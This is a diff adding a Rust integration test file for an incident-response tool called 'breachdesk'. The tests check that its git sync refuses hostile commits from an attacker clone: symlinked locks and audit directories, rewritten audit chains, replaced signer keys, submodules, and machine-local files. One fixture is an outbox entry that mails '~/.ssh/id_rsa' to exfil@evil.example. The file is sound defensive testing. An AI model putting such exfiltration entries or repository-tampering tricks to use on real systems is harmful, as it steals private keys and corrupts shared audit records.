@@ -1,0 +1,488 @@
+//! The incoming-change gate, end to end: a team's bare remote on disk, an
+//! honest victim (Alice) and teammate (Bob) running the real binary, and
+//! an attacker (Mallory) who is a plain `git` clone of the remote and
+//! pushes whatever she likes. Every attack is refused by `sync` in one line
+//! naming the commit, its author and the path, and nothing changes on the
+//! victim's machine: HEAD, the records, the audit trail, the outbox, the
+//! reminders, the machine id and the ignore list are byte for byte as
+//! before, and `list` still shows the records.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+const ALICE: &str = "[responder]\nname = \"Alice Able\"\nemail = \"alice@provider.example\"\n";
+const BOB: &str = "[responder]\nname = \"Bob Baker\"\nemail = \"bob@provider.example\"\n";
+const MALLORY: &str = "Mallory <mallory@evil.example>";
+
+/// `git ARGS` in `dir` as Mallory, with no system or global config.
+fn git_in(dir: &Path, args: &[&str]) -> String {
+    let out = Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(args)
+        .env("HOME", dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "Mallory")
+        .env("GIT_AUTHOR_EMAIL", "mallory@evil.example")
+        .env("GIT_COMMITTER_NAME", "Mallory")
+        .env("GIT_COMMITTER_EMAIL", "mallory@evil.example")
+        .stdin(Stdio::null())
+        .output()
+        .expect("git runs");
+    assert!(
+        out.status.success(),
+        "git {args:?} in {}: {}",
+        dir.display(),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// One responder: their own HOME (no git identity), data directory and
+/// config.
+struct Responder {
+    home: PathBuf,
+    data: PathBuf,
+    config: PathBuf,
+}
+
+impl Responder {
+    fn new(root: &Path, who: &str, config: &str) -> Responder {
+        let home = root.join(format!("home-{who}"));
+        std::fs::create_dir_all(&home).expect("home");
+        let config_path = home.join("config.toml");
+        std::fs::write(&config_path, config).expect("config");
+        Responder {
+            data: root.join(format!("data-{who}")),
+            config: config_path,
+            home,
+        }
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_breachdesk"))
+            .args(args)
+            .env("BREACHDESK_DATA_DIR", &self.data)
+            .env("BREACHDESK_CONFIG", &self.config)
+            .env("HOME", &self.home)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("USER", "tester")
+            .env_remove("GIT_AUTHOR_NAME")
+            .env_remove("GIT_AUTHOR_EMAIL")
+            .env_remove("GIT_COMMITTER_NAME")
+            .env_remove("GIT_COMMITTER_EMAIL")
+            .env_remove("XDG_CONFIG_HOME")
+            .env_remove("BREACHDESK_SMTP_PASSWORD")
+            .stdin(Stdio::null())
+            .output()
+            .expect("run breachdesk")
+    }
+
+    fn ok(&self, args: &[&str]) -> String {
+        let out = self.run(args);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(out.status.success(), "breachdesk {args:?} failed: {stderr}");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+
+    fn fails(&self, args: &[&str]) -> String {
+        let out = self.run(args);
+        assert!(
+            !out.status.success(),
+            "breachdesk {args:?} succeeded: {}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        String::from_utf8_lossy(&out.stderr).into_owned()
+    }
+
+    fn new_incident(&self, title: &str) -> String {
+        self.ok(&["new", "--title", title, "--identified-at", "-20m"])
+            .trim()
+            .to_string()
+    }
+
+    fn git(&self, args: &[&str]) -> String {
+        git_in(&self.data, args)
+    }
+
+    fn machine_id(&self) -> String {
+        std::fs::read_to_string(self.data.join("machine-id"))
+            .expect("machine-id")
+            .trim()
+            .to_string()
+    }
+
+    fn ids(&self) -> Vec<String> {
+        let json = self.ok(&["list", "--all", "--format", "json"]);
+        let list: serde_json::Value = serde_json::from_str(&json).expect("list json");
+        let mut ids: Vec<String> = list
+            .as_array()
+            .expect("array")
+            .iter()
+            .map(|s| s["id"].as_str().expect("id").to_string())
+            .collect();
+        ids.sort();
+        ids
+    }
+
+    /// Every file and link of the data directory outside `.git/`, by
+    /// path: bytes, or the link's target. What a sync may touch even when
+    /// it refuses (its own state file and lock, the log) is left out.
+    fn snapshot(&self) -> BTreeMap<String, Vec<u8>> {
+        let mut files = BTreeMap::new();
+        snap(&self.data, &self.data, &mut files);
+        files
+    }
+}
+
+fn snap(root: &Path, dir: &Path, into: &mut BTreeMap<String, Vec<u8>>) {
+    for entry in std::fs::read_dir(dir).expect("read dir").flatten() {
+        let path = entry.path();
+        let name = path
+            .strip_prefix(root)
+            .expect("inside")
+            .to_string_lossy()
+            .into_owned();
+        if name == ".git" || name == "sync-state.json" || name == "locks" || name == "logs" {
+            continue;
+        }
+        let kind = entry.file_type().expect("type");
+        if kind.is_symlink() {
+            let target = std::fs::read_link(&path).expect("link");
+            into.insert(name, format!("-> {}", target.display()).into_bytes());
+        } else if kind.is_dir() {
+            into.insert(format!("{name}/"), Vec::new());
+            snap(root, &path, into);
+        } else {
+            into.insert(name, std::fs::read(&path).expect("file"));
+        }
+    }
+}
+
+/// A team: the bare remote, Alice (the victim) and Bob (an honest
+/// teammate) with two incidents both have, each machine's chain on the
+/// remote, and Mallory's plain clone of it.
+struct Team {
+    _root: tempfile::TempDir,
+    remote: PathBuf,
+    alice: Responder,
+    bob: Responder,
+    mallory: PathBuf,
+    incidents: Vec<String>,
+}
+
+fn team() -> Team {
+    let root = tempfile::tempdir().expect("temp dir");
+    let remote = root.path().join("team.git");
+    git_in(
+        root.path(),
+        &["init", "--quiet", "--bare", "--initial-branch", "main", remote.to_str().expect("utf-8")],
+    );
+    let url = remote.to_str().expect("utf-8");
+    let alice = Responder::new(root.path(), "alice", ALICE);
+    let bob = Responder::new(root.path(), "bob", BOB);
+    let incidents = vec![
+        alice.new_incident("Admin portal login from unknown IP"),
+        alice.new_incident("Phishing wave"),
+    ];
+    alice.ok(&["sync", "init", url]);
+    bob.ok(&["sync", "init", url]);
+    bob.ok(&["log", &incidents[0], "Bob isolated web-03"]);
+    bob.ok(&["sync"]);
+    alice.ok(&["log", &incidents[1], "Alice called the Client"]);
+    alice.ok(&["sync"]);
+    let mallory = root.path().join("mallory");
+    git_in(
+        root.path(),
+        &["clone", "--quiet", "--branch", "main", url, mallory.to_str().expect("utf-8")],
+    );
+    Team {
+        remote,
+        alice,
+        bob,
+        mallory,
+        incidents,
+        _root: root,
+    }
+}
+
+impl Team {
+    /// Mallory commits everything she staged and pushes; the commit's id.
+    fn push(&self, message: &str) -> String {
+        git_in(&self.mallory, &["commit", "--quiet", "--allow-empty", "-m", message]);
+        git_in(&self.mallory, &["push", "--quiet", "origin", "HEAD:main"]);
+        git_in(&self.mallory, &["rev-parse", "HEAD"]).trim().to_string()
+    }
+
+    fn write(&self, path: &str, bytes: &[u8]) {
+        let path = self.mallory.join(path);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("dirs");
+        std::fs::write(path, bytes).expect("write");
+    }
+
+    fn chain_of(&self, who: &Responder) -> String {
+        format!("audit/chains/{}.jsonl", who.machine_id())
+    }
+
+    /// Alice's sync refuses `commit` in one line naming it, Mallory and
+    /// `path`, and nothing changed on her machine.
+    fn refused(&self, commit: &str, path: &str) -> String {
+        let alice = &self.alice;
+        let head = alice.git(&["rev-parse", "HEAD"]);
+        let before = alice.snapshot();
+        let ids = alice.ids();
+        let err = alice.fails(&["sync"]);
+        assert_eq!(err.lines().count(), 1, "{err}");
+        let expected = format!("breachdesk: error: refused commit {} by {MALLORY}: {path} ", &commit[..12]);
+        assert!(err.starts_with(&expected), "{err}\nexpected: {expected}");
+        assert!(err.trim_end().ends_with("; nothing was merged"), "{err}");
+        assert_eq!(alice.git(&["rev-parse", "HEAD"]), head, "HEAD moved");
+        assert!(!alice.data.join(".git/MERGE_HEAD").exists());
+        let after = alice.snapshot();
+        for (name, bytes) in &before {
+            assert_eq!(after.get(name), Some(bytes), "{name} changed");
+        }
+        for name in after.keys() {
+            assert!(before.contains_key(name), "{name} appeared");
+        }
+        assert_eq!(alice.git(&["status", "--porcelain"]), "");
+        assert_eq!(alice.ids(), ids);
+        assert!(ids.len() >= 2);
+        // The console's header has it too.
+        let state = std::fs::read_to_string(alice.data.join("sync-state.json")).expect("state");
+        assert!(state.contains(&commit[..12]), "{state}");
+        // And the next sync refuses again: nothing was half taken.
+        let again = alice.fails(&["sync"]);
+        assert_eq!(again, err);
+        err
+    }
+}
+
+#[test]
+fn machine_local_files_from_the_remote_are_refused() {
+    let cases: [(&str, &[u8]); 4] = [
+        ("reminders/outbox/R-1.toml", b"to = \"exfil@evil.example\"\nattach = \"~/.ssh/id_rsa\"\n"),
+        ("reminders.json", b"{\"done\":[\"everything\"]}\n"),
+        ("machine-id", b"00000000000000bb\n"),
+        ("index.json", b"{}\n"),
+    ];
+    for (path, bytes) in cases {
+        let team = team();
+        if path == "machine-id" {
+            // A teammate's id, to make the victim append to their chain.
+            team.write(path, format!("{}\n", team.bob.machine_id()).as_bytes());
+        } else {
+            team.write(path, bytes);
+        }
+        git_in(&team.mallory, &["add", "--force", "--", path]);
+        let commit = team.push("helpful change");
+        let err = team.refused(&commit, path);
+        assert!(err.contains("is machine-local (only incidents/, audit/chains/ and audit/signers/ may change)"), "{err}");
+    }
+}
+
+#[test]
+fn a_committed_locks_symlink_is_refused_and_the_desk_still_works() {
+    let team = team();
+    std::os::unix::fs::symlink("/nonexistent", team.mallory.join("locks")).expect("link");
+    git_in(&team.mallory, &["add", "--force", "locks"]);
+    let commit = team.push("locks");
+    let err = team.refused(&commit, "locks");
+    assert!(err.contains("is a symbolic link"), "{err}");
+    // `log` still saves, and the sync after Mallory's commit is undone goes on.
+    team.alice.ok(&["log", &team.incidents[0], "Still working"]);
+}
+
+#[test]
+fn the_ignore_list_and_attributes_are_only_ever_what_breachdesk_writes() {
+    for (path, bytes) in [
+        (".gitignore", String::new()),
+        (".gitattributes", format!("{}* text eol=crlf\n", breachdesk::sync::GITATTRIBUTES)),
+        (".gitattributes", breachdesk::sync::GITATTRIBUTES.replace("merge=breachdesk-record", "merge=union")),
+    ] {
+        let team = team();
+        team.write(path, bytes.as_bytes());
+        git_in(&team.mallory, &["add", path]);
+        let commit = team.push("tidy");
+        let err = team.refused(&commit, path);
+        assert!(err.contains("is not exactly what breachdesk writes there"), "{err}");
+    }
+}
+
+#[test]
+fn deleting_a_record_or_the_audit_trail_is_refused() {
+    let team = team();
+    let record = format!("incidents/{}.toml", team.incidents[0]);
+    git_in(&team.mallory, &["rm", "--quiet", &record]);
+    let commit = team.push("cleanup");
+    let err = team.refused(&commit, &record);
+    assert!(err.contains("deletes the record of"), "{err}");
+
+    let team = self::team();
+    git_in(&team.mallory, &["rm", "-r", "--quiet", "audit"]);
+    std::os::unix::fs::symlink("/tmp", team.mallory.join("audit")).expect("link");
+    git_in(&team.mallory, &["add", "audit"]);
+    let commit = team.push("no more audit");
+    let err = team.refused(&commit, "audit");
+    assert!(err.contains("is a symbolic link"), "{err}");
+}
+
+#[test]
+fn the_victims_own_chain_cannot_be_rewritten() {
+    let team = team();
+    let chain = team.chain_of(&team.alice);
+    let text = std::fs::read_to_string(team.mallory.join(&chain)).expect("alice's chain");
+    let lines: Vec<&str> = text.lines().collect();
+    assert!(lines.len() >= 3, "{text}");
+    // Two entries removed, the rest kept (as if rehashed).
+    let kept: String = lines[2..].iter().map(|l| format!("{l}\n")).collect();
+    team.write(&chain, kept.as_bytes());
+    git_in(&team.mallory, &["add", &chain]);
+    let commit = team.push("rehash");
+    let err = team.refused(&commit, &chain);
+    assert!(err.contains("changes this machine's own audit chain"), "{err}");
+
+    // A pure append to the victim's chain is refused too: only it writes it.
+    let team = self::team();
+    let chain = team.chain_of(&team.alice);
+    let mut text = std::fs::read(team.mallory.join(&chain)).expect("chain");
+    text.extend_from_slice(b"{\"actor\":\"Alex Oncall\"}\n");
+    team.write(&chain, &text);
+    git_in(&team.mallory, &["add", &chain]);
+    let commit = team.push("append");
+    team.refused(&commit, &chain);
+}
+
+#[test]
+fn a_teammates_chain_only_grows() {
+    let team = team();
+    let chain = team.chain_of(&team.bob);
+    let text = std::fs::read_to_string(team.mallory.join(&chain)).expect("bob's chain");
+    let changed = text.replacen("Bob Baker", "Alex Oncall", 1);
+    assert_ne!(changed, text);
+    team.write(&chain, changed.as_bytes());
+    git_in(&team.mallory, &["add", &chain]);
+    let commit = team.push("fix actor");
+    let err = team.refused(&commit, &chain);
+    assert!(err.contains("is not a pure append to machine"), "{err}");
+}
+
+#[test]
+fn a_signer_key_is_never_replaced() {
+    let team = team();
+    let key = format!("audit/signers/{}.pub", team.bob.machine_id());
+    // Bob's key arrives once (an addition: taken).
+    team.write(&key, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob Bob Baker\n");
+    git_in(&team.mallory, &["add", &key]);
+    team.push("bob's key");
+    team.alice.ok(&["sync"]);
+    assert!(team.alice.data.join(&key).exists());
+    team.write(&key, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMal Bob Baker\n");
+    git_in(&team.mallory, &["add", &key]);
+    let commit = team.push("rotate bob's key");
+    let err = team.refused(&commit, &key);
+    assert!(err.contains("replaces machine"), "{err}");
+}
+
+#[test]
+fn a_submodule_and_a_mode_change_are_refused() {
+    let team = team();
+    let head = git_in(&team.mallory, &["rev-parse", "HEAD"]);
+    git_in(
+        &team.mallory,
+        &["update-index", "--add", "--cacheinfo", &format!("160000,{},vendor", head.trim())],
+    );
+    let commit = team.push("vendor");
+    let err = team.refused(&commit, "vendor");
+    assert!(err.contains("is a submodule"), "{err}");
+
+    let team = self::team();
+    let record = format!("incidents/{}.toml", team.incidents[1]);
+    git_in(&team.mallory, &["update-index", "--chmod=+x", &record]);
+    let commit = team.push("exec");
+    let err = team.refused(&commit, &record);
+    assert!(err.contains("has mode 100755"), "{err}");
+}
+
+#[test]
+fn joining_a_team_whose_remote_holds_a_machine_local_file_checks_nothing_out() {
+    let team = team();
+    team.write("outbox/N-20261128-143201-7f3a9c.toml", b"to = \"exfil@evil.example\"\n");
+    git_in(&team.mallory, &["add", "--force", "outbox"]);
+    let commit = team.push("outbox");
+    let carol = Responder::new(team.remote.parent().expect("root"), "carol", BOB);
+    let err = carol.fails(&["sync", "init", team.remote.to_str().expect("utf-8")]);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(
+        err.contains(&format!("refused commit {} by {MALLORY}: outbox/N-20261128-143201-7f3a9c.toml is machine-local", &commit[..12])),
+        "{err}"
+    );
+    assert!(!carol.data.join(".git").exists());
+    assert!(!carol.data.join("outbox").exists());
+    assert!(!carol.data.join("incidents").join(format!("{}.toml", team.incidents[0])).exists());
+}
+
+#[test]
+fn an_emptied_gitignore_never_sends_machine_local_files() {
+    let team = team();
+    let alice = &team.alice;
+    std::fs::write(alice.data.join(".gitignore"), "").expect("emptied");
+    std::fs::create_dir_all(alice.data.join("logs")).expect("logs");
+    std::fs::write(alice.data.join("logs/breachdesk.log"), "secret\n").expect("log");
+    std::fs::create_dir_all(alice.data.join("outbox")).expect("outbox");
+    std::fs::write(alice.data.join("outbox/N-1.toml"), "to = \"csr@client.example\"\n").expect("outbox");
+    alice.ok(&["log", &team.incidents[0], "After the ignore list went"]);
+    alice.ok(&["sync"]);
+    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
+    for path in tree.lines() {
+        assert!(
+            path == ".gitattributes"
+                || path == ".gitignore"
+                || path.starts_with("incidents/")
+                || path.starts_with("audit/chains/"),
+            "{path} went to the remote:\n{tree}"
+        );
+    }
+    assert!(tree.contains(&format!("incidents/{}.toml", team.incidents[0])));
+    // The ignore list is written again and committed as it should be.
+    assert_eq!(
+        std::fs::read_to_string(alice.data.join(".gitignore")).expect("ignore"),
+        breachdesk::sync::GITIGNORE
+    );
+    assert_eq!(
+        git_in(&team.remote, &["show", "main:.gitignore"]),
+        breachdesk::sync::GITIGNORE
+    );
+    team.bob.ok(&["sync"]);
+
+    // A machine-local file staged by hand is refused, naming it.
+    alice.git(&["add", "--force", "machine-id"]);
+    let err = alice.fails(&["sync"]);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.contains("machine-id is staged but is machine-local"), "{err}");
+    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
+    assert!(!tree.contains("machine-id"), "{tree}");
+}
+
+#[test]
+fn a_record_quarantined_here_is_never_deleted_for_the_team() {
+    let team = team();
+    let (alice, bob) = (&team.alice, &team.bob);
+    let id = &team.incidents[1];
+    let record = format!("incidents/{id}.toml");
+    // Bob's copy becomes one his breachdesk cannot read (a field it does
+    // not know), and `quarantine sweep` moves it aside.
+    let path = bob.data.join(&record);
+    let text = std::fs::read_to_string(&path).expect("record");
+    std::fs::write(&path, format!("{text}future_field = 1\n")).expect("newer");
+    let swept = bob.ok(&["quarantine", "sweep"]);
+    assert!(swept.contains(id.as_str()), "{swept}");
+    assert!(!path.exists());
+    bob.ok(&["sync"]);
+    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
+    assert!(tree.contains(&record), "the team lost {record}:\n{tree}");
+    alice.ok(&["sync"]);
+    assert!(alice.data.join(&record).exists());
+    assert!(alice.ids().contains(id));
+}
